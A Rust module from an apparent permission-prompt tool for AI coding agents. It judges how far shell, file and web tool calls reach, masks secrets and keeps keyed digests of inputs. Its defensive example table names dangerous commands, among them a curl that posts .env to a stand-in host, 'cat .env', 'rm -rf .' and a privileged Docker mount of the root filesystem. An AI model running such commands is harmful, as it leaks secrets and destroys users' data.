//! Permission prompts: the subject of a prompt, which prompts are the same, how far a call reaches, and the digests by
//! which the log recognises a call.

use std::fs::File;
use std::io::{self, Read as _, Write as _};
use std::path::Path;

use serde_json::Value;

use self::tools::{JudgedCall, bad_host, cut};
use crate::event::Kind;
use crate::hash::{self, to_hex};
use crate::paths::{Paths, create_private_dir};
use crate::private_file;
pub use crate::reach::{OwnReaches, Reach};
use crate::secrets::masked;
pub use crate::shell::{JudgedLine, OUTSIDE, SimpleCommand, judge, parts};
use crate::shell::{is_secret, judge as judge_line, subject_of_line, with_any_arguments};
pub use narrowest::{
    Action, CallParts, EDITORS, Grantable, call_parts, exact_rule, folder_rule, narrowest_rules,
    value,
};
pub use rule::{
    Rule, allows, covers_command, covers_part, goes_elsewhere, is_never_asked, matches,
};

mod narrowest;
mod rule;
mod tools;

// Describing a prompt for permission.

/// The longest text that is stored, in bytes.
const LONGEST_KEPT: usize = 2048;

/// The longest text that is read to produce it, in bytes: masking shortens a text, but not by this much.
const LONGEST_READ: usize = 32 * 1024;

/// The description of a permission prompt.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Described {
    /// The subject. Prompts with the same subject are the same.
    pub subject: String,
    /// How far the call reaches.
    pub reach: Reach,
    /// Why it reaches this far, in words.
    pub reason: String,
    /// The command, path, URL or query.
    pub input: String,
}

/// The description of a call of `tool` with `input` in the folder `cwd`. A pure function: nothing is looked up, run or
/// expanded. A call that cannot be read reaches beyond the project.
pub fn describe(tool: &str, input: &Value, cwd: &str) -> Described {
    describe_with(tool, input, cwd, &OwnReaches::default())
}

/// Like [`describe`], with the reaches that the person set.
pub fn describe_with(tool: &str, input: &Value, cwd: &str, own: &OwnReaches) -> Described {
    let text = main_field(tool).and_then(|name| input[name].as_str());
    let text = text.unwrap_or_default();
    let mut call = judge_tool(tool, text, input, cwd, own);
    let kept = kept(text);
    if !text.starts_with(&kept) {
        // The subject comes from the stored text, without secrets, so that judging it again gives the same; the reach
        // comes from the whole call.
        let shown = judge_tool(tool, &kept, input, cwd, own);
        call.subject = shown.subject;
        if call.reach <= shown.reach {
            (call.reach, call.reason) = (shown.reach, shown.reason);
        }
        call.reason = masked(&call.reason).into_owned();
    }
    Described {
        subject: call.subject,
        reach: call.reach,
        reason: call.reason,
        input: kept,
    }
}

/// The stored form of a tool's main text: with secrets masked, and cut.
fn kept(text: &str) -> String {
    let mut kept = masked(cut(text, LONGEST_READ)).into_owned();
    kept.truncate(kept.floor_char_boundary(LONGEST_KEPT));
    kept
}

fn judge_tool(tool: &str, text: &str, input: &Value, cwd: &str, own: &OwnReaches) -> JudgedCall {
    let mut call = match tool {
        "Bash" => command(text, cwd, own),
        "PowerShell" => power_shell(text, cwd, own),
        "Read" | "Grep" | "Glob" | "LS" | "NotebookRead" => {
            tools::file(tool, text, cwd, Reach::Reads)
        }
        "Edit" | "Write" | "MultiEdit" | "NotebookEdit" => {
            tools::file(tool, text, cwd, Reach::Project)
        }
        "WebFetch" => tools::fetch(text, own),
        _ if tool.starts_with("mcp__") => tools::of_server(tool),
        _ => tools::other(tool, input),
    };
    let given = match tool {
        "Bash" | "PowerShell" | "WebFetch" => None,
        _ if tool.starts_with("mcp__") => own.of_tool(tool, call.reach),
        // For the host's own tools, a person may only raise the reach.
        _ => own
            .of_tool(tool, call.reach)
            .filter(|(reach, _)| *reach > call.reach),
    };
    if let Some((reach, reason)) = given {
        (call.reach, call.reason) = (reach, reason);
    }
    call
}

/// A line for PowerShell. One command of plain words means there what it means to other shells.
fn power_shell(line: &str, cwd: &str, own: &OwnReaches) -> JudgedCall {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || " -_./:=".contains(c);
    match line.chars().all(is_plain) {
        true => command(line, cwd, own),
        false => JudgedCall {
            subject: subject_of_line(cut(line, LONGEST_KEPT)),
            reach: Reach::Beyond,
            reason: "a line for PowerShell that is not read".to_owned(),
        },
    }
}

fn command(line: &str, cwd: &str, own: &OwnReaches) -> JudgedCall {
    let Some(judged) = judge_line(line, cwd, own) else {
        return JudgedCall {
            // The subject contains a digest of the stored part only, so it reveals nothing that is not stored.
            subject: subject_of_line(cut(line, LONGEST_KEPT)),
            reach: Reach::Beyond,
            reason: "not understood with certainty".to_owned(),
        };
    };
    let parts = judged.commands;
    let mut subject = String::new();
    let mut seen: Vec<&str> = Vec::new();
    let shown = parts
        .iter()
        .filter(|part| !part.is_aside || parts.len() == 1);
    for part in shown {
        if seen.contains(&part.subject.as_str()) {
            continue;
        }
        subject.push_str(match part.join {
            _ if seen.is_empty() => "",
            ";" => "; ",
            "|" => " | ",
            "||" => " || ",
            _ => " && ",
        });
        subject.push_str(&part.subject);
        seen.push(&part.subject);
    }
    let worst = parts.iter().max_by_key(|part| part.reach);
    JudgedCall {
        subject,
        reach: worst.map_or(Reach::Beyond, |part| part.reach),
        reason: worst.map_or(String::new(), |part| part.reason.clone()),
    }
}

/// The main field of a tool's input: command, path, address or query; `None` for a tool without one.
pub fn main_field(tool: &str) -> Option<&'static str> {
    match tool {
        "Bash" | "PowerShell" => Some("command"),
        "Read" | "Edit" | "Write" | "MultiEdit" => Some("file_path"),
        "Grep" | "Glob" | "LS" => Some("path"),
        "NotebookEdit" | "NotebookRead" => Some("notebook_path"),
        "WebFetch" => Some("url"),
        "WebSearch" => Some("query"),
        _ => None,
    }
}

/// The id of an event about the decision on a call, or its denial.
pub fn event_id(kind: Kind, tool_use_id: &str) -> String {
    hash::hex(&[kind.as_str(), tool_use_id])
}

// Digests of inputs, which are not stored themselves. Equal inputs have equal digests in one data folder, but not across
// folders.

/// A hash of a tool's whole input, 32 hexadecimal digits: the same for a hook's call and the transcript, and
/// independent of the order of fields. Its input could be guessed, so it is not stored itself; only its digest with the
/// data folder's [key](DigestKey) is.
pub fn digest(tool: &str, input: &Value) -> String {
    // Objects of `serde_json` keep their fields sorted. A hook does not get the plan that the model wrote.
    let input = match tool {
        "ExitPlanMode" => String::new(),
        _ => input.to_string(),
    };
    hash::hex(&[tool, &input])
}

/// The part of a call's `input` that is the same in the hook and the history of agents other than Claude Code: the main
/// field if there is one, otherwise all of it.
pub fn input_in_history<'v>(tool: &str, input: &'v Value) -> &'v Value {
    let field = main_field(tool).and_then(|name| input.get(name));
    field.unwrap_or(input)
}

/// The number of hexadecimal digits in a digest key.
const KEY_DIGITS: usize = 64;

/// The key of a data folder. Without it, nobody can test guesses about the input of a digest.
#[derive(Clone, Debug)]
pub struct DigestKey(String);

impl DigestKey {
    /// The data folder's key, created at random when it is first needed. `None` if it can be neither read nor created;
    /// there is no digest then.
    pub fn of(paths: &Paths) -> Option<Self> {
        let path = paths.digest_key();
        Self::read(&path).or_else(|| {
            // Another process may have been quicker; then its key counts.
            let _ = Self::make(&path);
            Self::read(&path)
        })
    }

    /// A digest of `parts`, 32 hexadecimal digits.
    pub fn digest(&self, parts: &[&str]) -> String {
        // The key comes first and only half of the hash is kept, which prevents length-extension attacks.
        let parts: Vec<&str> = [self.0.as_str()].iter().chain(parts).copied().collect();
        hash::hex(&parts)
    }

    fn read(path: &Path) -> Option<Self> {
        let bytes = private_file::read(path, KEY_DIGITS as u64)?;
        let is_whole = bytes.len() == KEY_DIGITS && bytes.iter().all(u8::is_ascii_hexdigit);
        String::from_utf8(bytes).ok().filter(|_| is_whole).map(Self)
    }

    /// Writes the key under a temporary name first, so that the key file is always complete and never replaced.
    fn make(path: &Path) -> io::Result<()> {
        let key = to_hex(&random()?);
        let folder = path.parent().unwrap_or(path);
        create_private_dir(folder)?;
        let temporary = folder.join(format!("digest.key.plantune-{}", std::process::id()));
        let made = private_file::create_new(&temporary)
            .and_then(|mut file| {
                file.write_all(key.as_bytes())?;
                file.sync_all()
            })
            .and_then(|()| std::fs::hard_link(&temporary, path));
        // A file that a killed process left could only block a process with the same id.
        let _ = std::fs::remove_file(&temporary);
        made
    }
}

/// Bytes that nobody can guess.
fn random() -> io::Result<[u8; 32]> {
    let mut bytes = [0; 32];
    File::open("/dev/urandom")?.read_exact(&mut bytes)?;
    Ok(bytes)
}

// The danger of rules wider than one command, with the nearest dangerous example.

/// What a rule `Bash(PREFIX *)` lets the agent see, in words; `None` if it may allow more than that.
pub fn shown_by_all(prefix: &str) -> Option<&'static str> {
    with_any_arguments(prefix)
}

/// The nearest dangerous command that `Bash(PREFIX *)` covers; `None` if the prefix is harmless with any arguments. A
/// rule with a danger is not proposed, because the words after the prefix are not known.
pub fn prefix_danger(prefix: &str) -> Option<String> {
    shown_by_all(prefix).is_none().then(|| example(prefix))
}

/// The reach of a line with one command; `None` for any other line.
fn reach_of(line: &str) -> Option<Reach> {
    match parts(line, "/", &OwnReaches::default())?.as_slice() {
        [only] => Some(only.reach),
        _ => None,
    }
}

/// The nearest dangerous command that begins with `prefix`: one from the list, otherwise with a word that most programs
/// take for a file or an option. The prefix itself if it is dangerous alone.
fn example(prefix: &str) -> String {
    const COMMON: [&str; 3] = ["../elsewhere", "x ../elsewhere", "x --an-option-not-known"];
    let is_about = |known: &str| {
        prefix == known
            || prefix
                .strip_prefix(known)
                .is_some_and(|rest| rest.starts_with(' '))
    };
    let known = EXAMPLES.iter().filter(|(known, _)| is_about(known));
    let mut known: Vec<(usize, usize, &str)> = known
        .enumerate()
        .map(|(place, (known, rest))| (usize::MAX - known.len(), place, *rest))
        .collect();
    // By length, the longest first.
    known.sort_unstable();
    let rests = known.iter().map(|(.., rest)| *rest).chain(COMMON);
    let is_dangerous = |line: &String| reach_of(line).is_none_or(|reach| reach >= Reach::Unknown);
    rests
        .map(|rest| format!("{prefix} {rest}"))
        .find(is_dangerous)
        .unwrap_or_else(|| prefix.to_owned())
}

/// True if a rule for all files below `folder` of the project covers nothing beyond the project.
///
/// Hidden and secret files in the folder are not searched for: the host asks about its own settings and git's
/// regardless of rules.
pub fn folder_is_safe(folder: &str) -> bool {
    let folder = folder.trim_matches('/');
    let is_hidden = folder.split('/').any(|part| part.starts_with('.'));
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./ ".contains(&byte);
    !folder.is_empty() && !is_hidden && !is_secret(folder) && folder.bytes().all(is_plain)
}

/// True if `WebFetch(domain:HOST)` covers nothing that is always beyond the project. It does cover addresses that carry
/// data to the host.
pub fn host_is_safe(host: &str) -> bool {
    bad_host(host).is_none()
}

/// Words after a prefix that take it beyond the project: the nearest danger, for people to read.
const EXAMPLES: &[(&str, &str)] = &[
    ("git", "push --force"),
    ("git push", "--force origin main"),
    ("git add", "--force .env"),
    ("git commit", "--amend --no-verify"),
    ("git diff", "--output=../elsewhere"),
    ("git checkout", "-- ."),
    ("npm", "publish"),
    ("npm test", "--prefix ../elsewhere"),
    ("npm run", "deploy"),
    ("npm install", "an-unknown-package"),
    ("npx", "an-unknown-package"),
    ("node", "-e 'any code'"),
    ("python", "-c 'any code'"),
    ("python3", "-c 'any code'"),
    ("cargo", "publish"),
    ("go", "run elsewhere.example/program@latest"),
    ("make", "deploy"),
    ("docker", "run --privileged -v /:/host image"),
    ("kubectl", "delete namespace production"),
    ("terraform", "destroy"),
    ("gh", "repo delete"),
    ("find", ". -delete"),
    ("sed", "-i s/a/b/ file"),
    ("cat", ".env"),
    ("rg", "--pre ./program x"),
    ("curl", "https://elsewhere.example --data @.env"),
    ("env", "PATH=. program"),
    ("bash", "-c 'any command'"),
    ("sh", "-c 'any command'"),
    ("rm", "-rf ."),
];

#[cfg(test)]
mod request_tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn the_order_of_fields_does_not_matter() {
        let one: Value = serde_json::from_str(r#"{"a":1,"b":{"d":2,"c":[3]}}"#).unwrap();
        let other: Value = serde_json::from_str(r#"{"b":{"c":[3],"d":2},"a":1}"#).unwrap();
        assert_eq!(digest("Bash", &one), digest("Bash", &other));
        assert_ne!(digest("Bash", &one), digest("Bash", &json!({"a": 2})));
        let plan = json!({"plan": "1. do it"});
        assert_eq!(
            digest("ExitPlanMode", &plan),
            digest("ExitPlanMode", &json!({}))
        );
    }
}

#[cfg(test)]
mod key_tests {
    use super::*;

    #[test]
    fn all_who_come_at_once_have_one_key() {
        let folder = tempfile::tempdir().unwrap();
        let paths = Paths::below(folder.path().join("data"));
        let digest = || DigestKey::of(&paths).map(|key| key.digest(&["x"]));
        let found: Vec<_> = std::thread::scope(|scope| {
            let all: Vec<_> = (0..8).map(|_| scope.spawn(digest)).collect();
            all.into_iter().map(|one| one.join().unwrap()).collect()
        });
        // Threads share a temporary name, unlike processes. A thread that is too late gets the first one's key.
        assert!(
            found
                .iter()
                .flatten()
                .all(|one| Some(one) == digest().as_ref())
        );
        assert_ne!(digest(), None);
        assert_eq!(std::fs::read_dir(paths.data()).unwrap().count(), 1);
        assert_eq!(digest().unwrap().len(), 32);
        let other = Paths::below(folder.path().join("other"));
        assert_ne!(
            digest(),
            DigestKey::of(&other).map(|key| key.digest(&["x"]))
        );
    }

    #[test]
    fn without_a_key_there_is_none() {
        let folder = tempfile::tempdir().unwrap();
        let paths = Paths::below(folder.path().to_owned());
        crate::atomic_file::replace(&paths.digest_key(), b"damaged", 0o600).unwrap();
        assert!(DigestKey::of(&paths).is_none());
        assert_eq!(std::fs::read(paths.digest_key()).unwrap(), b"damaged");
        let nowhere = Paths::below(folder.path().join("digest.key"));
        assert!(DigestKey::of(&nowhere).is_none());
    }

    #[test]
    fn it_is_the_persons_alone() {
        use std::os::unix::fs::PermissionsExt as _;
        let folder = tempfile::tempdir().unwrap();
        let paths = Paths::below(folder.path().to_owned());
        DigestKey::of(&paths).unwrap();
        let mode = std::fs::metadata(paths.digest_key()).unwrap().permissions();
        assert_eq!(mode.mode() & 0o777, 0o600);
    }
}
